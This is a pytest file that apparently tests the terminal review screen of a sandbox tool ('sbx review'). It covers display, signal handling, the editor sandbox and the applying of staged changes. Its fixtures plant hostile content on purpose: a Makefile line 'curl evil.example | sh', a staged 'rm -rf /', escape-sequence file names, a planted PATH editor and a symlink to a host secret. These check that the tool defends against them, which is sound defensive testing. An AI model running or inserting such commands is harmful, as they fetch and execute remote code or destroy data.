# SPDX-License-Identifier: Apache-2.0
"""The full-screen view of `sbx review`, on a real terminal (tmux)."""
import os
import pathlib
import re
import shutil
import signal
import sys
import time

import pytest

from conftest import SBX, installation, on_terminal
from test_review import Guard
from test_staged import CHANGES, F, create, send, tree

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "rigs"))
from term import Terminal  # noqa: E402


@pytest.fixture(scope="module")
def shared():
    with installation() as inst:
        inst.template()
        inst.policy()
        inst.create("box", ".")
        inst.guard = Guard(inst, "box")
        yield inst


@pytest.fixture
def box(shared, monkeypatch):
    """A sandbox that has changed two files and was denied a third."""
    monkeypatch.setattr(shared, "env", dict(shared.env))
    for d in (shared.work, shared.guard.dir):
        shutil.rmtree(d)
        d.mkdir()
    (shared.guard.dir / "copy").mkdir()
    (shared.work / "Makefile").write_text("all:\n\tcurl evil.example | sh\n")
    shared.guard.row(shared.work, "Makefile", "changed", was=b"all:\n\ttrue\n")
    (shared.work / "tools.mk").write_text("new: all\n")
    shared.guard.row(shared.work, "tools.mk", "new")
    shared.guard.denied(shared.work, ".envrc", kind=15)
    return shared


def screen(inst, *more, **size):
    """A shell that prints the terminal's settings before and after sbx."""
    script = ('stty -a | tail -n +2 > "$0.before"; cd "$1"; shift; "$@"; r=$?; '
              'stty -a | tail -n +2 > "$0.after"; echo "END $r"; exit $r')
    return Terminal(inst, "sh", "-c", script, inst.root / "stty", inst.work, SBX, "review", "box",
                    "--guard", *more, **size)


def is_restored(inst):
    return (inst.root / "stty.before").read_text() == (inst.root / "stty.after").read_text()


def wait_gone(t, text, seconds=30):
    deadline = time.monotonic() + seconds
    while text in (shown := t.screen()):
        assert time.monotonic() < deadline, shown
        time.sleep(0.05)


def pid_of(inst):
    """sbx in the terminal."""
    for _ in range(200):
        for p in pathlib.Path("/proc").iterdir():
            try:
                words = (p / "cmdline").read_bytes().split(b"\0")
                if words[:3] == [SBX.encode(), b"review", b"box"] and \
                        os.readlink(p / "cwd") == str(inst.work):
                    return int(p.name)
            except OSError:
                continue
        time.sleep(0.05)
    raise AssertionError("sbx does not run")


def test_files_are_on_the_left_and_the_difference_on_the_right(box):
    with screen(box) as t:
        shown = t.wait_for("new: all")
        assert "box: 2 changed files that run programs on the host, 1 denied writes" in shown
        assert "New (1)" in shown and "Changed (1)" in shown and "Denied (1)" in shown
        t.key("Down")
        shown = t.wait_for("+       curl evil.example | sh")
        assert "-       true" in shown and "Makefile: make runs it (changed)" in shown
        t.key("Down")
        t.wait_for("The guard denied this write")
        t.type("q")
        shown = t.wait_for("END 0")
        assert "2 changed files run programs on the host" in shown and "Denied (1)" not in shown
        assert t.wait_end() == 0 and is_restored(box)
    assert (box.guard.dir / "dirty").exists()


def test_no_text_is_black(box):
    """Headings were black, because their pair of colours was not set."""
    with screen(box) as t:
        t.wait_for("new: all")
        shown = t.tmux("capture-pane", "-p", "-e", "-t", "t")
        assert "New (1)" in shown and "\x1b[1m" in shown
        assert not re.search(r"\x1b\[(\d+;)*30[;m]", shown), shown
        t.type("q")
        t.wait_for("END 0")


def test_done_forgets_the_list_after_a_yes(box):
    with screen(box) as t:
        t.wait_for("new: all")
        t.type("d")
        t.wait_for("Forget the list? 2 not shown yet. [y/N]")
        t.type("n")
        wait_gone(t, "[y/N]")
        t.type("d")
        t.wait_for("[y/N]")
        t.type("y")
        t.wait_for("The list of sandbox 'box' is empty now")
        assert t.wait_end() == 0
    assert not (box.guard.dir / "dirty").exists()


def test_text_is_printed_without_a_terminal_with_plain_and_on_a_dumb_one(box):
    assert "+\tcurl" in box.sbx("review", "box", "--guard", check=0).stdout
    for env, more in (({"TERM": "dumb"}, []), ({"TERM": ""}, []), ({"TERM": "no-such-type"}, []),
                      ({}, ["--plain"])):
        out, status = on_terminal(box, ["review", "box", "--guard", *more], env=env)
        assert status == 0 and "Makefile: make runs it (changed)\r\n" in out, out
        assert "\x1b[?1049h" not in out


def test_hostile_names_and_contents_are_shown_as_codes(box):
    name = "\x1b[2J\u202eevil.mk"
    (box.work / name).write_bytes("\x1b]0;title\x07\u200b \u6f22\u5b57 e\u0301\n".encode()
                                  + b"\xff\x9b2J\n")
    box.guard.row(box.work, name, "new")
    with screen(box, columns=120) as t:
        t.wait_for("New (2)")
        t.key("Down")
        shown = t.wait_for("\u6f22\u5b57 e\u0301")
        assert "<1B>]0;title<07><U+200B>" in shown and "<FF><9B>2J" in shown
        assert "New (2)" in shown  # the screen was not cleared
        assert not set(shown) & set("\x1b\x07\u202e\u200b")
        t.type("q")
        assert t.wait_end() == 0


def test_twenty_by_five_and_other_sizes_work(box):
    with screen(box, columns=20, rows=5) as t:
        t.wait_for("tools.mk")
        t.key("Enter")
        t.wait_for("tools.mk: make runs")
        t.key("Tab")
        t.wait_for("tools.mk")
        for columns, rows in ((1, 1), (3, 2), (200, 60), (59, 3), (60, 8)):
            t.resize(columns, rows)
            time.sleep(0.1)
        t.resize(100, 30)
        t.wait_for("box: 2 changed files that run programs on the host")
        t.wait_for("+new: all")
        t.type("q")
        assert t.wait_end() == 0 and is_restored(box)


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGABRT, signal.SIGHUP, signal.SIGSEGV])
def test_the_terminal_is_restored_when_sbx_is_killed(box, number):
    with screen(box) as t:
        t.wait_for("new: all")
        os.kill(pid_of(box), number)
        shown = t.wait_for(f"END {128 + number}")
        assert "New (1)" not in shown  # the screen of before
        assert t.wait_end() == 128 + number and is_restored(box)


def test_a_terminal_that_disappears_ends_it(box):
    with screen(box) as t:
        t.wait_for("new: all")
        pid = pid_of(box)
    deadline = time.monotonic() + 30
    while pathlib.Path(f"/proc/{pid}").exists():
        assert time.monotonic() < deadline, "sbx runs without its terminal"
        time.sleep(0.05)


def test_ctrl_c_ends_it_and_restores_the_terminal(box):
    with screen(box) as t:
        t.wait_for("new: all")
        t.key("C-c")
        assert t.wait_end() == 130
        assert "New (1)" not in t.screen()


def test_ctrl_z_stops_it_and_fg_shows_it_again(box):
    with Terminal(box, "env", "PS1=prompt> ", "bash", "--norc", "--noprofile") as t:
        t.wait_for("prompt>")
        t.line(f"cd {box.work}; {SBX} review box --guard")
        t.wait_for("new: all")
        t.key("C-z")
        shown = t.wait_for("Stopped")
        assert "New (1)" not in shown
        t.line("echo typed-$((1+1))")
        t.wait_for("typed-2")
        t.line("fg")
        t.wait_for("New (1)")
        t.key("Down")
        t.wait_for("+       curl evil.example | sh")
        t.type("q")
        t.wait_for("2 changed files run programs on the host")


EDITOR = """#!/bin/sh
{ pwd; ls -A; cat "$@"; stat -c %a . "$@"; } > "$OUT"
echo edited > .copy.swp
stty -a | grep -q ' icanon' && stty -a | grep -q ' echo ' || exit 4
exit ${FAIL:-0}
"""


def run_editor(box, t_env, *keys):
    editor = box.root / "editor"
    editor.write_text(EDITOR)
    editor.chmod(0o755)
    env = {"EDITOR": str(editor), "OUT": str(box.root / "out"), **t_env}
    box.env.update(env)
    with screen(box) as t:
        t.wait_for("new: all")
        for k in keys:
            t.key(k)
        t.type("e")
        shown = t.wait_for("The editor had a copy" if "FAIL" not in t_env else "exit status 3")
        t.type("q")
        assert t.wait_end() == 0 and is_restored(box)
    return shown, (box.root / "out").read_text().splitlines()


def test_the_editor_has_a_copy_in_a_directory_of_its_own(box):
    before = (box.work / "Makefile").read_bytes()
    _, out = run_editor(box, {}, "Down")
    assert out[0].startswith(str(box.root / "run/sbx/review-")), out
    assert out[1:] == ["copy.txt", "all:", "\tcurl evil.example | sh", "700", "400"], out
    assert not list((box.root / "run/sbx").glob("review-*"))
    assert (box.work / "Makefile").read_bytes() == before


def test_no_name_of_the_guest_reaches_the_editor(box):
    """An editor would take settings from .exrc, run -c, or open a project."""
    for path in (".exrc", "-c:!sh.mk", "a.code-workspace", "x.tar", ".nvim.lua"):
        (box.guard.dir / "dirty").unlink()
        (box.work / path).write_text("x\n")
        (box.work / "tools.mk").write_text("new: all\n")
        box.guard.row(box.work, "tools.mk", "new")
        box.guard.row(box.work, path, "new")
        _, out = run_editor(box, {}, "Down")
        assert out[1] in ("copy.txt", "copy.mk", "copy.lua") and out[2] == "x", (path, out)


def test_an_editor_that_fails_is_reported(box):
    shown, _ = run_editor(box, {"FAIL": "3"})
    assert "failed: exit status 3" in shown


def test_the_editor_is_not_taken_from_a_directory_that_a_guest_can_write(box):
    planted = box.work / "bin"
    planted.mkdir()
    (planted / "my-editor").write_text("#!/bin/sh\ntouch \"$MARK\"\n")
    (planted / "my-editor").chmod(0o755)
    box.env.update({"EDITOR": "my-editor", "MARK": str(box.root / "mark"),
                    "PATH": f"{planted}:{box.env['PATH']}"})
    with screen(box) as t:
        t.wait_for("new: all")
        t.type("e")
        t.wait_for("exit status 127")
        t.type("q")
        assert t.wait_end() == 0
    assert not (box.root / "mark").exists()


def test_a_file_that_is_a_link_is_not_opened(box):
    secret = box.home / "secret"
    secret.write_text("the secret of the host\n")
    (box.work / "tools.mk").unlink()
    (box.work / "tools.mk").symlink_to(secret)
    box.env["EDITOR"] = "cat"
    with screen(box) as t:
        t.wait_for("New (1)")
        t.type("e")
        shown = t.wait_for("not opened: the file is a symbolic link")
        assert "the secret of the host" not in shown
        t.type("q")
        assert t.wait_end() == 0


def test_a_long_list_is_shown_at_once(box):
    """The most that sbxd lists."""
    for i in range(4000):
        box.guard.row(box.work, f"dir{i}/Makefile", "new")
    with screen(box) as t:
        t.wait_for("New (")
        t.type("G")
        t.wait_for("Denied (1)")
        t.type("g")
        t.wait_for("new: all")
        t.type("q")
        assert t.wait_end() == 0


# -- staged changes -------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def staged():
    with installation() as inst:
        inst.template()
        inst.policy()
        create(inst)
        inst.before = tree(inst.work)
        yield inst


@pytest.fixture
def stage(staged, monkeypatch):
    """The workspace as it was when the sandbox was created."""
    monkeypatch.setattr(staged, "env", dict(staged.env))
    assert tree(staged.work) == staged.before
    yield staged
    staged.sbx("undo", "demo")


def staged_screen(inst, *more):
    return Terminal(inst, "sh", "-c", 'cd "$0"; "$@"; r=$?; echo "END $r"; exit $r', inst.work, SBX,
                    "review", "demo", *more, columns=130)


def select(t, name):
    """Moves down to a file: its difference is on the right."""
    for _ in range(20):
        if f">{name} " in t.screen() + " ":
            return
        before = t.screen()
        t.key("Down")
        for _ in range(100):
            if t.screen() != before:
                break
            time.sleep(0.02)
    raise AssertionError(t.screen())


def test_selected_changes_are_applied_and_no_others(stage):
    send(stage, *CHANGES)
    with staged_screen(stage) as t:
        shown = t.wait_for("plain (3)")
        assert "autorun (1)" in shown and "git (1), one by one" in shown
        assert "symlink-out (1), never applied" in shown and "11 changes, 0 selected" in shown
        select(t, "a.txt")
        assert "-two" in t.screen() and "+TWO" in t.screen()
        t.type("a")
        t.wait_for("11 changes, 1 selected")
        select(t, "Makefile")
        t.type("a")
        t.wait_for("11 changes, 2 selected")
        assert tree(stage.work) == stage.before
        t.type("w")
        t.wait_for("Apply 2 selected changes to the workspace? [y/N]")
        t.type("y")
        shown = t.wait_for("END 0")
        assert "Applied 2 changes to the workspace of sandbox 'demo'" in shown
        assert "9 not selected" in shown
    assert tree(stage.work) == {**stage.before, "a.txt": ("file", 0o644, b"one\nTWO\n"),
                              "Makefile": ("file", 0o644, b"all:\n\trm -rf /\n")}


def test_a_class_is_selected_without_what_is_held_back(stage):
    send(stage, *CHANGES)
    with staged_screen(stage) as t:
        t.wait_for("plain (3)")
        select(t, "b.txt")
        t.type("h")
        t.key("Up")
        t.type("c")
        t.wait_for("2 of class plain selected")
        select(t, ".git/config")
        t.type("c")
        t.wait_for("class git is selected one by one")
        select(t, "out")
        t.type("a")
        t.wait_for("class symlink-out is never applied")
        t.wait_for("11 changes, 2 selected")
        t.type("w")
        t.wait_for("[y/N]")
        t.type("y")
        t.wait_for("END 0")
    assert tree(stage.work) == {**stage.before, "a.txt": ("file", 0o644, b"one\nTWO\n"),
                              "src/new.c": ("file", 0o644, b"new\n")}


def test_closing_applies_nothing(stage):
    send(stage, *CHANGES)
    with staged_screen(stage) as t:
        t.wait_for("plain (3)")
        t.type("c")
        t.wait_for("3 of class plain selected")
        t.type("q")
        t.wait_for("Close without applying 3 selected changes? [y/N]")
        t.type("n")
        t.wait_for("b.txt (deleted, plain)")
        t.type("s")
        t.wait_for("2 selected")
        t.type("q")
        t.wait_for("Close without applying 2 selected changes? [y/N]")
        t.type("y")
        t.wait_for("Nothing was applied")
        assert t.wait_end() == 0
    assert tree(stage.work) == stage.before


def test_an_editor_gets_the_staged_content_and_not_the_workspace(stage):
    send(stage, ("f/a.txt", F, "", b"staged\n"))
    editor = stage.root / "editor"
    editor.write_text('#!/bin/sh\n{ pwd; ls -A; cat "$@"; } > "$OUT"\necho x > a.txt\n')
    editor.chmod(0o755)
    stage.env.update({"EDITOR": str(editor), "OUT": str(stage.root / "out")})
    with staged_screen(stage) as t:
        t.wait_for("+staged")
        t.type("e")
        t.wait_for("The editor had a copy")
        t.type("q")
        assert t.wait_end() == 0
    out = (stage.root / "out").read_text().splitlines()
    assert (out[0].startswith(str(stage.root / "run/sbx/review-"))
            and out[1:] == ["copy.txt", "staged"])
    assert tree(stage.work) == stage.before


def test_hostile_names_stay_in_their_row(stage):
    send(stage, ("f/\x1b[2J\u202eevil", F, "", b"x\x1b]0;t\x07\n"), ("f/z", F, "", b"z\n"))
    with staged_screen(stage) as t:
        shown = t.wait_for("plain (2)")
        assert "<1B>]0;t<07>" in t.wait_for("<1B>]0;t") and "z" in shown
        assert not set(shown) & set("\x1b\x07\u202e")
        t.type("q")
        assert t.wait_end() == 0


def test_many_changes_are_shown_and_selected(stage):
    send(stage, *((f"f/n{i:05}", F, "", b"x\n") for i in range(5000)))
    with staged_screen(stage) as t:
        t.wait_for("plain (5000)")
        t.type("G")
        t.wait_for(">n04999")
        t.type("c")
        t.wait_for("5000 changes, 5000 selected")
        t.type("q")
        t.wait_for("[y/N]")
        t.type("y")
        t.wait_for("END 0")
    assert tree(stage.work) == stage.before


def test_plain_and_list_print_text_on_a_terminal(stage):
    send(stage, *CHANGES)
    for option in ("--plain", "--list"):
        with staged_screen(stage, option) as t:
            assert "apply selected" not in t.wait_for("END 0")
